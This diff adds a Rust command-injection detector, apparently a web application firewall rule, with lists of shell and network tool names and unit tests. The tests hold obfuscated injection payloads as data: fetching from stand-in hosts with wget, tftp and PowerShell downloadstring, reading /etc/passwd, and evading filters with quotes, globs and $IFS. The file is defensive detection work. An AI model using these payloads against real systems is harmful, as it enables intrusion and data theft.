@@ -1,0 +1,492 @@
+//! Command injection by structure (signature 932300): a value is an
+//! injection when, read by a shell ([`super::shell_tokens`] undoes quotes,
+//! escapes, empty variables, `$IFS`, braces and carets), a separator is
+//! followed by a command of a known family.
+//!
+//! How sure a separator and a command word make it:
+//!
+//! ```text
+//! separator          command           word             obfuscated word
+//! ; | || && ` $(     always            with arguments*  always
+//! newline & (        with arguments*,  with arguments*  always
+//!                    or alone
+//! start of value     -                 -                with arguments* or a command
+//! ```
+//!
+//! (*) arguments that look like a shell's: an option (`-la`), a path
+//! (`/etc/passwd`, `~/x`, `./x`), a number, a variable, a redirection, a
+//! second command. A command is a name no prose uses (`whoami`, `wget`,
+//! `powershell`); a word is a command name that is also a word of text
+//! (`cat`, `sleep`, `type`, `more`). The word in command position may be
+//! a path (`/bin/cat`) or a glob (`/???/c?t`), matched against the names;
+//! both count as obfuscated. Variable assignments (`a=1`) before it are
+//! skipped, as a shell does.
+
+use super::shell_tokens::{Lexer, Strength, Token, WordShape};
+
+/// What a command name is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    /// A name no prose uses.
+    Command,
+    /// A command name that is also an ordinary word.
+    Word,
+}
+
+/// Names no prose uses: Unix recon, fetching, shells, interpreters, file
+/// changes, encoders; Windows `cmd` and `PowerShell` tools.
+const COMMANDS: &[&str] = &[
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "hostname",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "telnet",
+    "ssh",
+    "scp",
+    "rsync",
+    "sftp",
+    "ftp",
+    "tftp",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "tcsh",
+    "dash",
+    "busybox",
+    "ls",
+    "pwd",
+    "id",
+    "cat",
+    "tac",
+    "nl",
+    "chmod",
+    "chown",
+    "chgrp",
+    "rm",
+    "rmdir",
+    "mkdir",
+    "cp",
+    "mv",
+    "ln",
+    "ps",
+    "pkill",
+    "killall",
+    "nslookup",
+    "netstat",
+    "python",
+    "python2",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "lua",
+    "node",
+    "nodejs",
+    "base64",
+    "base32",
+    "xxd",
+    "hexdump",
+    "awk",
+    "gawk",
+    "sed",
+    "grep",
+    "egrep",
+    "fgrep",
+    "printenv",
+    "env",
+    "crontab",
+    "systemctl",
+    "sudo",
+    "doas",
+    "pkexec",
+    "useradd",
+    "usermod",
+    "chpasswd",
+    "mkfifo",
+    "nmap",
+    "tcpdump",
+    "iptables",
+    "lsof",
+    "strace",
+    "ltrace",
+    "gdb",
+    "dmesg",
+    "journalctl",
+    "uptime",
+    "whereis",
+    "xargs",
+    "nohup",
+    "setsid",
+    "openssl",
+    "gpg",
+    "tar",
+    "unzip",
+    "gzip",
+    "gunzip",
+    "bzip2",
+    "xz",
+    "7z",
+    "vi",
+    "vim",
+    "readlink",
+    "realpath",
+    "md5sum",
+    "sha1sum",
+    "sha256sum",
+    "lsb_release",
+    "getent",
+    "cmd",
+    "powershell",
+    "pwsh",
+    "certutil",
+    "bitsadmin",
+    "wmic",
+    "mshta",
+    "rundll32",
+    "regsvr32",
+    "cscript",
+    "wscript",
+    "systeminfo",
+    "tasklist",
+    "taskkill",
+    "schtasks",
+    "net1",
+    "nltest",
+    "icacls",
+    "iex",
+    "iwr",
+    "invoke-expression",
+    "invoke-webrequest",
+    "start-process",
+    "msiexec",
+    "reg",
+    "wsl",
+];
+
+/// Command names that are also words of text.
+const WORDS: &[&str] = &[
+    "more", "less", "head", "tail", "sort", "find", "file", "host", "kill", "touch", "echo",
+    "sleep", "ping", "time", "type", "dir", "set", "net", "start", "call", "copy", "del", "move",
+    "ren", "make", "man", "wall", "write", "mail", "watch", "split", "cut", "paste", "fold",
+    "expand", "script", "history", "last", "who", "top", "free", "dig", "exec", "eval", "source",
+    "export", "alias", "nice", "timeout", "command", "su", "dd", "od", "wc", "tee", "uniq", "rev",
+    "strings", "stat", "mount", "install", "java", "git", "docker", "kubectl", "zip", "service",
+    "apt", "yum", "pip", "npm", "gem",
+];
+
+/// Whether `text` (decoded, lower case) reads as an injected command.
+///
+/// The value is read as it is, and, for each quote it holds, as if that
+/// quote had opened before it (a value pasted inside a quoted argument):
+/// then what follows its first such quote is read, with no command before
+/// the next separator. So `1';id` and `1";id` read `;id`, and `I'd like`
+/// reads `d like`.
+pub(crate) fn is_command_injection(text: &str) -> bool {
+    if !worth_reading(text) {
+        return false;
+    }
+    reads_as_command(text, Some(Strength::Start))
+        || [b'\'', b'"'].into_iter().any(|quote| {
+            memchr::memchr(quote, text.as_bytes())
+                .is_some_and(|at| reads_as_command(&text[at + 1..], None))
+        })
+}
+
+/// Whether `text` runs a command; `position` says whether its first word
+/// is in command position (as the start of a value).
+fn reads_as_command(text: &str, position: Option<Strength>) -> bool {
+    let mut lexer = Lexer::new(text);
+    // The strongest separator since the last word, if the next word is in
+    // command position.
+    let mut position = position;
+    while let Some(token) = lexer.next_token() {
+        match token {
+            Token::Separator(strength) => {
+                position = Some(position.map_or(strength, |p| p.max(strength)));
+            }
+            Token::Redirect => position = None,
+            Token::Word(shape) => {
+                let Some(strength) = position else {
+                    continue;
+                };
+                if lexer.word().is_empty() || is_assignment(lexer.word()) {
+                    continue;
+                }
+                // A bare glob opening a value is a wildcard search (`py*`).
+                if strength == Strength::Start && shape.glob && !lexer.word().starts_with('/') {
+                    position = None;
+                    continue;
+                }
+                position = None;
+                if let Some((kind, obfuscated)) = command_of(lexer.word(), shape) {
+                    if injects(&mut lexer, strength, kind, obfuscated) {
+                        return true;
+                    }
+                }
+            }
+        }
+    }
+    false
+}
+
+/// Whether a command `kind` after a separator of `strength` is an
+/// injection, given what follows it (read from `lexer`).
+fn injects(lexer: &mut Lexer<'_>, strength: Strength, kind: Kind, obfuscated: bool) -> bool {
+    let after = lexer.next_token();
+    let argued = match after {
+        None => Follow::End,
+        Some(Token::Separator(_)) => Follow::Separator,
+        Some(Token::Redirect) => Follow::Shell,
+        Some(Token::Word(shape)) => argument(lexer.word(), shape),
+    };
+    match (strength, kind) {
+        (Strength::Strong, Kind::Command) => true,
+        (Strength::Strong | Strength::Weak, _) if obfuscated => true,
+        (Strength::Strong, Kind::Word) => matches!(argued, Follow::Shell | Follow::Number),
+        (Strength::Weak, Kind::Word) => argued == Follow::Shell,
+        (Strength::Weak, Kind::Command) => argued != Follow::Text,
+        (Strength::Start, _) => obfuscated && (kind == Kind::Command || argued == Follow::Shell),
+    }
+}
+
+/// What follows a command word.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Follow {
+    /// The end of the value.
+    End,
+    /// Another separator.
+    Separator,
+    /// An argument as a shell takes one: an option, a path, a variable...
+    Shell,
+    /// A number (`sleep 5`): an argument, or a word of text.
+    Number,
+    /// A word of text.
+    Text,
+}
+
+/// What an argument `word` looks like.
+fn argument(word: &str, shape: WordShape) -> Follow {
+    let first = word.bytes().next().unwrap_or(b' ');
+    if first.is_ascii_digit() && !word.contains('/') {
+        return Follow::Number;
+    }
+    let shell = matches!(first, b'-' | b'/' | b'~' | b'.' | b'$' | b'+')
+        || word.contains('/')
+        || shape.obfuscated
+        || shape.glob
+        || command_of(word, shape).is_some_and(|(kind, _)| kind == Kind::Command);
+    if shell {
+        Follow::Shell
+    } else {
+        Follow::Text
+    }
+}
+
+/// The kind of command `word` names, and whether it was written the way
+/// an attacker hides one (quoted apart, a path, a glob).
+fn command_of(word: &str, shape: WordShape) -> Option<(Kind, bool)> {
+    if shape.truncated || word.is_empty() {
+        return None;
+    }
+    let (name, path) = match word.rfind('/') {
+        Some(slash) if is_binary_dir(&word[..=slash], shape.glob) => (&word[slash + 1..], true),
+        _ => (word, false),
+    };
+    let name = name.strip_suffix(".exe").unwrap_or(name);
+    let obfuscated = shape.obfuscated || path;
+    if shape.glob {
+        let literal = name.bytes().filter(u8::is_ascii_alphanumeric).count();
+        if literal == 0 || name.len() < 2 {
+            return None;
+        }
+        return kind_of_glob(name).map(|kind| (kind, true));
+    }
+    kind_of(name).map(|kind| (kind, obfuscated))
+}
+
+/// Whether `dir` (ending in `/`) is where commands live (`/bin/`,
+/// `/usr/local/sbin/`...) or, in a glob, could be (`/???/`).
+fn is_binary_dir(dir: &str, glob: bool) -> bool {
+    matches!(
+        dir,
+        "/bin/" | "/sbin/" | "/usr/bin/" | "/usr/sbin/" | "/usr/local/bin/" | "/usr/local/sbin/"
+    ) || (glob && dir.starts_with('/') && dir.bytes().any(|b| matches!(b, b'?' | b'*' | b'[')))
+}
+
+fn kind_of(name: &str) -> Option<Kind> {
+    if COMMANDS.contains(&name) {
+        Some(Kind::Command)
+    } else if WORDS.contains(&name) {
+        Some(Kind::Word)
+    } else {
+        None
+    }
+}
+
+/// The kind of the first command name the glob `pattern` matches.
+fn kind_of_glob(pattern: &str) -> Option<Kind> {
+    let matches = |names: &[&str]| {
+        names
+            .iter()
+            .any(|n| glob_matches(pattern.as_bytes(), n.as_bytes()))
+    };
+    if matches(COMMANDS) {
+        Some(Kind::Command)
+    } else if matches(WORDS) {
+        Some(Kind::Word)
+    } else {
+        None
+    }
+}
+
+/// Whether the shell glob `pattern` (`?`, `*`, `[...]` read as any one
+/// character) matches all of `name`: the usual star-backtracking walk,
+/// linear in their lengths for one star and never exponential.
+fn glob_matches(pattern: &[u8], name: &[u8]) -> bool {
+    let pattern = one_char_classes(pattern);
+    let (mut p, mut n) = (0, 0);
+    let mut star: Option<(usize, usize)> = None;
+    while n < name.len() {
+        match pattern.get(p) {
+            Some(b'*') => {
+                star = Some((p, n));
+                p += 1;
+            }
+            Some(&c) if c == b'?' || c == name[n] => {
+                p += 1;
+                n += 1;
+            }
+            _ => match star {
+                Some((sp, sn)) => {
+                    p = sp + 1;
+                    n = sn + 1;
+                    star = Some((sp, sn + 1));
+                }
+                None => return false,
+            },
+        }
+    }
+    pattern[p..].iter().all(|&c| c == b'*')
+}
+
+/// `pattern` with each `[...]` class turned into `?`.
+fn one_char_classes(pattern: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(pattern.len());
+    let mut i = 0;
+    while i < pattern.len() {
+        if pattern[i] == b'[' {
+            if let Some(close) = pattern[i..].iter().position(|&b| b == b']') {
+                out.push(b'?');
+                i += close + 1;
+                continue;
+            }
+        }
+        out.push(pattern[i]);
+        i += 1;
+    }
+    out
+}
+
+/// Whether `word` is a variable assignment (`a=1`), which a shell runs
+/// past to the command.
+fn is_assignment(word: &str) -> bool {
+    word.split_once('=').is_some_and(|(name, _)| {
+        !name.is_empty()
+            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+            && !name.as_bytes()[0].is_ascii_digit()
+    })
+}
+
+/// Whether `text` holds a separator or a character a shell undoes (a
+/// quote, escape, caret, variable, brace): values without one are never
+/// read.
+fn worth_reading(text: &str) -> bool {
+    const NEEDED: [bool; 256] = {
+        let mut table = [false; 256];
+        let bytes = b";|&`\n\r('\"\\^${";
+        let mut i = 0;
+        while i < bytes.len() {
+            table[bytes[i] as usize] = true;
+            i += 1;
+        }
+        table
+    };
+    text.bytes().any(|b| NEEDED[usize::from(b)])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::is_command_injection;
+
+    #[test]
+    fn separators_then_commands_are_injections() {
+        for attack in [
+            ";id",
+            "1|whoami",
+            "x && cat /etc/passwd",
+            "a.txt`uname -a`",
+            "1$(sleep 5)",
+            "x\nwget http://x.example/s -O /tmp/s",
+            "127.0.0.1 & ping -n 3 127.0.0.1",
+            ";{cat,/etc/passwd}",
+            ";c'a't /etc/passwd",
+            "1';whoami",
+            "x\";{tftp,-i,192.0.2.7,get,s}",
+            "a.txt\"`{nslookup,x.example}`",
+            ";c\\at /etc/passwd",
+            "|c$u\"at\" /etc/passwd",
+            ";/???/c?t /etc/passwd",
+            ";cat$ifs$9/etc/passwd",
+            "a&&who^ami",
+            "& %comspec% /c whoami",
+            "| powershell -enc sqbfafga",
+            "|iex(new-object net.webclient).downloadstring('http://x')",
+            "x;a=1 b=2 whoami",
+            "1\r\nne\"\"t localgroup administrators",
+            "c'a't /etc/passwd",
+            "x;/usr/bin/id",
+            ";/b??/ca* /etc/passwd",
+        ] {
+            assert!(is_command_injection(attack), "{attack:?}");
+        }
+    }
+
+    #[test]
+    fn prose_lists_and_client_headers_are_not() {
+        for text in [
+            "tom & jerry",
+            "home | more",
+            "q&a; more info",
+            "salt & pepper; free shipping",
+            "p.s.\nps i love you",
+            "tips:\nsleep 8 hours a night",
+            "i tried curl and it works (really)",
+            "don't cat-sit; it's fine",
+            "mozilla/5.0 (x11; linux x86_64) applewebkit/537.36 (khtml, like gecko) chrome/124.0 safari/537.36",
+            "mozilla/5.0 (macintosh; u; intel mac os x 10_6_8; en-us)",
+            "text/html,application/xhtml+xml,*/*;q=0.8",
+            "\"chromium\";v=\"124\", \"google chrome\";v=\"124\"",
+            "a=1&b=2&c=3",
+            "rock 'n' roll",
+            "i'd like to order 2 or 3 more of these if they're still in stock.",
+            "i'd rate the service 4 out of 5; delivery was a day late.",
+            "it costs $5 (or $10 with tax)",
+            "/tools/curl",
+            "/blog/id",
+            "py*",
+            "c*t",
+            "items[0]; who?",
+        ] {
+            assert!(!is_command_injection(text), "{text:?}");
+        }
+    }
+}
